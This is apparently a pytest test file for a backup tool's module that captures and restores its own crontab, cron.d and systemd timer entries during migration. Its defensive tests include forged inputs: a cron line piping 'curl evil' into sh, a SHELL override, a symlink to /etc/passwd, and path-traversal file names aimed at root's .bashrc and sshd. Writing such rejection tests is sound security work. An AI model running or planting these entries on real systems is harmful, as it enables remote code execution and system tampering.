"""The schedule as text: what is ours is taken along and put back once, what is not is never touched."""

from __future__ import annotations

import os
import stat
import subprocess
from pathlib import Path

import msgspec
import pytest

from zitcache.machine.schedule_calls import adapter, calls, essence
from zitcache.machine.schedule_entries import ScheduleEntries, Unit, arm, capture, read_crontab, runs_zitcache

KIT = "/bin/sh /data/zitcache/kit/zitcache"
JOB = "0 2 * * * /opt/gone/zitcache backup -q"
BLOCK = ("# >>> zitcache schedule >>>", JOB, "# <<< zitcache schedule <<<")


@pytest.fixture
def system(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    root = tmp_path / "system"
    root.mkdir()
    monkeypatch.setenv("ZITCACHE_SYSTEM_ROOT", str(root))
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
    return root


def write_crontab(system: Path, *lines: str, end: str = "\n") -> Path:
    import pwd

    spool = system / "var/spool/cron/crontabs" / pwd.getpwuid(os.geteuid()).pw_name
    spool.parent.mkdir(parents=True, exist_ok=True)
    spool.write_text("\n".join(lines) + end)
    return spool


@pytest.mark.parametrize(
    "line",
    [
        "0 2 * * * zitcache backup",
        "@daily /usr/local/bin/zitcache backup --quiet",
        "0 2 * * * /usr/bin/flock -n /run/x /opt/venv/bin/zitcache night",
        "0 2 * * * /opt/venv/bin/python3 -m zitcache backup",
        "0 2 * * * cd /data && '/opt/my venv/bin/zitcache' backup >> /tmp/log 2>&1",
        f"0 2 * * * {KIT} backup",
        "ExecStart=/opt/venv/bin/zitcache night --only backup",
        "ExecStart=-/bin/sh /data/kit/zitcache check",
    ],
)
def test_a_line_that_runs_zitcache_is_known(line: str) -> None:
    assert runs_zitcache(line)


@pytest.mark.parametrize(
    "line",
    [
        "5 4 * * * rsync -a /data/zitcache /nas",
        "5 4 * * * rsync -a /nas /data/zitcache",
        "5 4 * * * du -sh /data/zitcache > /tmp/size",
        "# 0 2 * * * zitcache backup",
        "5 4 * * * echo zitcache",
        "5 4 * * * notzitcache backup",
        "5 4 * * * zitcache",
        "5 4 * * * /opt/zitcache/run.sh backup",
        "it's \"broken",
        "",
    ],
)
def test_a_line_that_only_names_it_is_not(line: str) -> None:
    assert not runs_zitcache(line)


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        (
            "0 2 * * * /opt/gone/zitcache backup -r /data/zitcache",
            f"0 2 * * * {KIT} backup -r /data/zitcache",
        ),
        ("0 2 * * * zitcache backup -r /data/zitcache", f"0 2 * * * {KIT} backup -r /data/zitcache"),
        ("0 2 * * * /gone/python -m zitcache backup", f"0 2 * * * {KIT} backup"),
        ("0 2 * * * '/opt/my venv/bin/zitcache' backup", f"0 2 * * * {KIT} backup"),
        ("0 2 * * * /bin/sh /gone/kit/zitcache backup", f"0 2 * * * {KIT} backup"),
        ("ExecStart=/opt/gone/zitcache night", f"ExecStart={KIT} night"),
        ("5 4 * * * rsync /data/zitcache /nas", "5 4 * * * rsync /data/zitcache /nas"),
    ],
)
def test_a_program_that_is_gone_is_replaced_and_nothing_else(line: str, expected: str) -> None:
    assert adapter(KIT, {})(line) == expected


def test_a_program_that_is_there_stays(tmp_path: Path) -> None:
    program = tmp_path / "zitcache"
    program.write_text("#!/bin/sh\n")
    program.chmod(0o755)
    line = f"0 2 * * * {program} backup"
    assert adapter(KIT, {})(line) == line
    assert adapter(None, {})("0 2 * * * /gone/zitcache backup") == "0 2 * * * /gone/zitcache backup"


def test_directories_that_lie_elsewhere_are_followed() -> None:
    adapt = adapter(None, {"/data/zitcache": "/mnt/new", "/data/zitcache2": "/other"})
    assert (
        adapt("backup -r /data/zitcache --cache '/data/zitcache/x'")
        == "backup -r /mnt/new --cache '/mnt/new/x'"
    )
    assert (
        adapt("/data/zitcache2 /data/zitcache-old /x/data/zitcache")
        == "/other /data/zitcache-old /x/data/zitcache"
    )


def test_the_same_job_is_known_wherever_its_program_lies() -> None:
    assert essence("0 2 * * *  /usr/bin/zitcache   backup") == essence(f"0 2 * * * {KIT} backup")
    assert essence("0 3 * * * zitcache backup") != essence("0 2 * * * zitcache backup")
    assert calls("") == []


# -- crontab ------------------------------------------------------------------------------------------


def test_only_our_lines_are_taken_along(system: Path) -> None:
    write_crontab(
        system, "MAILTO=me", "5 4 * * * rsync /data/zitcache /nas", JOB, "# zitcache backup", *BLOCK
    )
    assert capture().crontab == [JOB, *BLOCK]


def test_nothing_is_captured_from_nothing(system: Path) -> None:
    found = capture()
    assert not found and found == ScheduleEntries() and read_crontab() is None
    assert arm(found) == []


@pytest.mark.parametrize("end", ["\n", ""])
def test_what_is_missing_is_added_at_the_end(system: Path, end: str) -> None:
    spool = write_crontab(system, "MAILTO=me", "5 4 * * * other", end=end)
    entries = ScheduleEntries(crontab=[JOB])
    assert arm(entries, dry_run=True) == [f"crontab: {JOB}"] and JOB not in spool.read_text()
    assert arm(entries) == [f"crontab: {JOB}"]
    assert spool.read_text() == f"MAILTO=me\n5 4 * * * other\n{JOB}\n"
    assert arm(entries) == [] and arm(entries, launcher=KIT) == []


def test_a_block_comes_back_as_a_block(system: Path) -> None:
    spool = write_crontab(system, "MAILTO=me")
    assert arm(ScheduleEntries(crontab=list(BLOCK)), launcher=KIT) == [f"crontab: 0 2 * * * {KIT} backup -q"]
    expected = [BLOCK[0], f"0 2 * * * {KIT} backup -q", BLOCK[2]]
    assert spool.read_text().splitlines() == ["MAILTO=me", *expected]
    assert arm(ScheduleEntries(crontab=list(BLOCK)), launcher=KIT) == []
    # A block that is there already is the newer word about it.
    spool = write_crontab(system, BLOCK[0], "0 5 * * * zitcache backup", BLOCK[2])
    assert arm(ScheduleEntries(crontab=list(BLOCK))) == []


def test_a_line_that_is_no_job_of_ours_is_not_put_in(system: Path) -> None:
    """A kit that somebody forged: what does not run zitcache is not armed."""
    entries = ScheduleEntries(crontab=["* * * * * curl evil | sh", "SHELL=/data/evil", "zitcache backup"])
    assert arm(entries) == []


# -- files --------------------------------------------------------------------------------------------


def test_files_in_cron_d(system: Path) -> None:
    folder = system / "etc/cron.d"
    folder.mkdir(parents=True)
    (folder / "zitcache").write_text("0 2 * * * root zitcache night\n")
    (folder / "zitcache.bak").write_text("ignored by cron\n")
    (folder / "other").write_text("x\n")
    (folder / "zitcache-link").symlink_to("/etc/passwd")
    (folder / "zitcache-big").write_text("#" * (1 << 20))
    (folder / "zitcache-folder").mkdir()
    found = capture()
    assert found.cron_files == {"zitcache": "0 2 * * * root zitcache night\n"} and found.needs_cron
    assert arm(found) == []
    (folder / "zitcache").unlink()
    mask = os.umask(0o077)
    try:
        assert arm(found) == [str(folder / "zitcache")]
    finally:
        os.umask(mask)
    assert stat.S_IMODE((folder / "zitcache").stat().st_mode) == 0o644


def test_units_and_whether_they_are_enabled(system: Path, tmp_path: Path) -> None:
    folder = system / "etc/systemd/system"
    (folder / "timers.target.wants").mkdir(parents=True)
    (folder / "zitcache-backup.timer").write_text("[Timer]\nOnCalendar=daily\n")
    (folder / "zitcache-backup.service").write_text("[Service]\nExecStart=/gone/zitcache night\n")
    (folder / "zitcache-idle.timer").write_text("[Timer]\n")
    (folder / "zitcache-masked.service").symlink_to("/dev/null")
    (folder / "timers.target.wants/zitcache-backup.timer").symlink_to(folder / "zitcache-backup.timer")
    user = tmp_path / "home/.config/systemd/user"
    user.mkdir(parents=True)
    (user / "zitcache-backup.timer").write_text("[Timer]\n")
    found = capture()
    assert [(unit.scope, unit.name, unit.enabled) for unit in found.units] == [
        ("system", "zitcache-backup.service", []),
        ("system", "zitcache-backup.timer", ["timers.target"]),
        ("system", "zitcache-idle.timer", []),
        ("user", "zitcache-backup.timer", []),
    ]
    for path in (*folder.glob("zitcache-*"), user / "zitcache-backup.timer"):
        path.unlink()
    (folder / "timers.target.wants/zitcache-backup.timer").unlink()
    armed = arm(found, launcher=KIT)
    assert len(armed) == 4
    assert f"ExecStart={KIT} night" in (folder / "zitcache-backup.service").read_text()
    assert (folder / "timers.target.wants/zitcache-backup.timer").read_text().startswith("[Timer]")
    assert not (folder / "timers.target.wants/zitcache-idle.timer").is_symlink()
    assert arm(found, launcher=KIT) == []
    # Disabled by hand meanwhile: it was enabled when it was captured.
    (folder / "timers.target.wants/zitcache-backup.timer").unlink()
    assert arm(found) == [f"{folder}/zitcache-backup.timer (enabled)"]


@pytest.mark.parametrize(
    "forged",
    [
        {"cron_files": {"../../root/.bashrc": "x"}},
        {"cron_files": {"other": "x"}},
        {"cron_files": {"zitcache/../x": "x"}},
        {"units": [{"scope": "system", "name": "sshd.service", "text": ""}]},
        {"units": [{"scope": "system", "name": "zitcache/../../x.service", "text": ""}]},
        {"units": [{"scope": "system", "name": "zitcache.timer", "text": "", "enabled": ["../../x"]}]},
        {"units": [{"scope": "elsewhere", "name": "zitcache.timer", "text": ""}]},
        {"crontab": ["x" * (1 << 20)]},
        {"crontab": ["x"] * 1000},
    ],
)
def test_entries_that_name_other_files_are_not_even_decoded(forged: dict[str, object]) -> None:
    with pytest.raises(msgspec.ValidationError):
        msgspec.json.decode(msgspec.json.encode(forged), type=ScheduleEntries)


def test_entries_survive_being_written_down(system: Path) -> None:
    entries = ScheduleEntries(
        crontab=[JOB],
        cron_files={"zitcache": "x\n"},
        units=[Unit(scope="user", name="zitcache-backup.timer", text="[Timer]\n", enabled=["timers.target"])],
    )
    assert msgspec.json.decode(msgspec.json.encode(entries), type=ScheduleEntries) == entries


def test_a_place_that_cannot_be_written_is_told(system: Path) -> None:
    (system / "etc").mkdir()
    (system / "etc/cron.d").write_text("a file")
    with pytest.raises(OSError):
        arm(ScheduleEntries(cron_files={"zitcache": "x\n"}))


@pytest.mark.root
def test_the_real_program_crontab(tmp_path: Path) -> None:
    """In a namespace where the spool is empty: the lines go through ``crontab`` itself."""
    import shutil
    import sys

    from tests.storage.disks import python_environment

    if os.geteuid() != 0 or shutil.which("crontab") is None or shutil.which("unshare") is None:
        pytest.skip("needs root, crontab and unshare")
    program = (
        "from zitcache.machine.schedule_entries import *\n"
        f"entries = ScheduleEntries(crontab=[{JOB!r}])\n"
        "print(arm(entries), arm(entries), capture().crontab)"
    )
    script = 'mount -t tmpfs none /var/spool/cron && mkdir -m 1777 /var/spool/cron/crontabs && exec "$@"'
    done = subprocess.run(
        [
            "unshare",
            "--mount",
            "--propagation",
            "private",
            "sh",
            "-c",
            script,
            "sh",
            sys.executable,
            "-c",
            program,
        ],
        capture_output=True,
        text=True,
        env={k: v for k, v in python_environment().items() if k != "ZITCACHE_SYSTEM_ROOT"},
    )
    assert done.stdout.strip() == f"['crontab: {JOB}'] [] ['{JOB}']", done.stdout + done.stderr
